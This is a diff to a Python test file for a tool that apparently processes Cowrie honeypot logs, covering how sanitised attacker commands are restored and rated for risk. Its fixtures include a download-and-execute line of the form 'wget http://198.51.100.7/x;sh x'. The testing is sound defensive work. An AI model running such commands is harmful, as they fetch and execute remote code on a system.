@@ -3,12 +3,19 @@
 from __future__ import annotations
 
 import re
+from hashlib import blake2b
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cowrieprocessor.interpret.commands import MAX_COMMAND_CHARS, describe_command, is_high_risk, normalize_command
+from cowrieprocessor.interpret.commands import (
+    MAX_COMMAND_CHARS,
+    command_of,
+    describe_command,
+    is_high_risk,
+    normalize_command,
+)
 from cowrieprocessor.sanitize import restore
 
 COMMANDS = st.text(st.characters(codec=None) | st.sampled_from(" \t\n\0\\\x1b\u202e\ud800;|&"), max_size=700)
@@ -166,3 +173,71 @@ def test_only_the_start_of_a_command_is_examined() -> None:
     """Anything after the first 4096 characters of a command is ignored."""
     assert is_high_risk("x" * 4000 + "; wget x")
     assert not is_high_risk("x" * 4096 + "; wget x")
+
+
+def of_v3(typed: str, safe: str, **more: object) -> dict[str, object]:
+    """Return the fields of a command as version 3 kept them, with the hash of what was typed."""
+    digest = blake2b(typed.encode("utf-8", "surrogatepass"), digest_size=32).hexdigest()
+    return {"input": None, "command": None, "input_safe": safe, "input_hash": digest, **more}
+
+
+@pytest.mark.parametrize(
+    ("typed", "safe"),
+    [
+        ("uname -a", "uname -a"),
+        ("cd /tmp && ls", "cd /tmp [AND] ls"),
+        ("cd /tmp&&ls", "cd /tmp [AND] ls"),
+        ("wget http://198.51.100.7/x;sh x", "wget [URL]198.51.100.7/x [SC] sh x"),
+        ("wget https://198.51.100.7/x; sh x", "wget [URL]198.51.100.7/x [SC] sh x"),
+        ("cat x | grep y | wc -l", "cat x [PIPE] grep y [PIPE] wc -l"),
+        ("enable ", "enable"),
+        ("echo [AND]", "echo [AND]"),
+    ],
+)
+def test_a_command_that_v3_rewrote_is_proven_by_its_hash(typed: str, safe: str) -> None:
+    """What agrees with version 3's hash was typed, whether the message has it or not."""
+    assert command_of(of_v3(typed, safe)) == typed
+    assert command_of(of_v3(typed, safe, message=f"CMD: {typed}")) == typed
+
+
+@pytest.mark.parametrize(
+    ("typed", "safe"),
+    [
+        ("cd  /tmp &&ls;w", "cd /tmp [AND] ls [SC] w"),
+        ("a\n;b", "a [SC] b"),
+        ("echo \ud800|x | y", "echo \ud800 [PIPE] x [PIPE] y"),
+    ],
+)
+@pytest.mark.parametrize("prefix", ["CMD: ", "Command found: ", "Command not found: "])
+def test_a_command_that_v3_rewrote_is_proven_by_the_log(typed: str, safe: str, prefix: str) -> None:
+    """Cowrie's message, which version 3 left alone, has the command in any spelling; with the hash or without one."""
+    fields = of_v3(typed, safe, message=f"{prefix}{typed}")
+
+    assert command_of(fields) == typed
+    assert command_of(fields | {"input_hash": None}) == typed
+    assert command_of(of_v3(typed, safe, message="CMD: something else")) == f"[rewritten by version 3] {safe}"
+
+
+@pytest.mark.parametrize(
+    ("fields", "command"),
+    [
+        ({"input": "ls", "input_safe": "no"}, "ls"),
+        ({"input": ""}, ""),
+        ({"input": None, "input_safe": ""}, None),
+        ({"input": 5, "input_safe": None, "message": "CMD: ls"}, None),
+        ({"input": None, "input_safe": "a [SC] b", "input_hash": "0" * 64}, "[rewritten by version 3] a [SC] b"),
+        (
+            {"input": None, "input_safe": "a [SC] b", "input_hash": 7, "message": ["x"]},
+            "[rewritten by version 3] a [SC] b",
+        ),
+    ],
+)
+def test_a_command_that_is_not_proven_is_marked(fields: dict[str, object], command: str | None) -> None:
+    """Nothing is made up: what cannot be proven is shown as version 3 kept it, and says so."""
+    assert command_of(fields) == command
+
+
+def test_a_rewritten_command_is_rated_as_it_would_have_been() -> None:
+    """The words that stand for operators and URLs do not hide what a command does."""
+    assert is_high_risk("[rewritten by version 3] cd /tmp [SC] ./x")
+    assert not is_high_risk("[rewritten by version 3] cd / [AND] ls")
